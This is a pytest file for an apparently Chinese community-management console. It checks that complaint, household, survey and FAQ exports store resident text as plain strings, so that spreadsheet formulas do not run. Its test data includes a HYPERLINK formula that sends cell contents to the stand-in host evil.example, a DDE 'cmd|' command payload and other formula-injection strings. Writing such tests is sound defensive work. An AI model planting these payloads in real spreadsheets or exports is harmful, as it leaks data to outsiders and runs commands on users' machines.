"""Formula injection (issue 17 item 1): text from outside is text in every export, never a formula.

Each export is read back with openpyxl: a resident's ``=HYPERLINK(...)`` must be a
string cell (``data_type == "s"``), not a formula (``"f"``); the CSV export puts
Excel's apostrophe in front.  Without ``models.sheets`` each of these failed.
"""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

from openpyxl import load_workbook
from sqlmodel import select

from handlers.faq import service as faq_service
from handlers.faq.transfer import import_file
from models import FaqEntry
from surveys import ballots
from tests.fixtures.console import login

EVIL = '=HYPERLINK("http://evil.example/?x="&A3,"点击查看")'


def cells_with(data: bytes, text: str) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and text in cell.value]


def assert_text_only(data: bytes, text: str, expected: int = 1) -> None:
    found = cells_with(data, text)
    assert len(found) >= expected, f"{text!r} not in the export"
    assert all(c.data_type == "s" for c in found), [(c.coordinate, c.data_type) for c in found]


def test_complaint_export_writes_residents_text_as_text(client, staff_user, make_complaint):
    make_complaint(description=EVIL)
    make_complaint(description=" \t+cmd|' /C calc'!A0", openid="oOther")
    login(client, staff_user("admin"))
    data = client.get("/console/complaints/export.xlsx").data
    assert_text_only(data, "HYPERLINK")
    assert_text_only(data, "+cmd|")


def test_household_export_writes_roster_text_as_text(client, staff_user, db_session, seed_community):
    seeded = seed_community("注入小区", layout={"=1+1": ["occupied"], "2号楼": ["occupied"]})
    h = seeded.households[1]
    h.room, h.owner_name = "@SUM(1,1)", EVIL
    db_session.add(h)
    db_session.commit()
    login(client, staff_user("admin"))
    data = client.get("/console/households.xlsx").data
    assert_text_only(data, "=1+1")
    assert_text_only(data, "@SUM")
    assert_text_only(data, "=*")  # the masked name still begins with "="


def test_survey_export_writes_answers_and_rooms_as_text(client, staff_user, db_session, seed_community,
                                                       bind_resident, publish_run, clock, render):
    seeded = seed_community("问卷注入小区")
    run = publish_run(seeded.community)
    seeded.households[0].room = "-2+3"
    db_session.add(seeded.households[0])
    voter = bind_resident(seeded.households[0], "o-evil")
    now = datetime.fromtimestamp(clock.now, timezone.utc)
    ballots.cast_by_resident(run.id, voter.id, {"agree": "yes", "comment": EVIL + " 电话139-1234-5678"},
                             channel="wechat", session=db_session, now=now, render=render)
    db_session.commit()
    login(client, staff_user("worker", communities=["问卷注入小区"]))
    data = client.get(f"/console/surveys/runs/{run.id}/export.xlsx").data
    assert_text_only(data, "HYPERLINK")
    assert_text_only(data, "-2+3")
    assert cells_with(data, "139****5678") and not cells_with(data, "1234-5678")  # item 7: phones in text masked


def test_faq_export_xlsx_and_csv_keep_text_and_import_again(client, staff_user, db_session):
    faq_service.save_entry({"question": "@怎么报名", "answer": EVIL, "category": "-其他"}, actor="t",
                           session=db_session)
    db_session.commit()
    login(client, staff_user("admin"))
    xlsx = client.get("/console/faq/export.xlsx").data
    assert_text_only(xlsx, "HYPERLINK")
    assert_text_only(xlsx, "@怎么报名")
    text = client.get("/console/faq/export.csv").data.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if "'" + EVIL in r)
    assert "'@怎么报名" in row and "'-其他" in row
    db_session.delete(db_session.exec(select(FaqEntry)).one())
    db_session.flush()
    assert import_file("faq.csv", actor="t", session=db_session, data=text.encode("utf-8-sig")).ok
    entry = db_session.exec(select(FaqEntry)).one()
    assert (entry.question, entry.answer, entry.category) == ("@怎么报名", EVIL, "-其他")



def test_nul_in_export_filters_is_not_a_500(client, staff_user, make_complaint, seed_community):
    """PostgreSQL refuses NUL in text: filters and searches carrying one were a 500 there."""
    seed_community("空字符小区")
    make_complaint()
    login(client, staff_user("admin"))
    for url in ("/console/complaints/export.xlsx", "/console/complaints/", "/console/households.xlsx",
                "/console/households"):
        for name in ("state", "category", "ticket", "q"):
            assert client.get(url, query_string={name: "a\x00b"}).status_code == 200, (url, name)
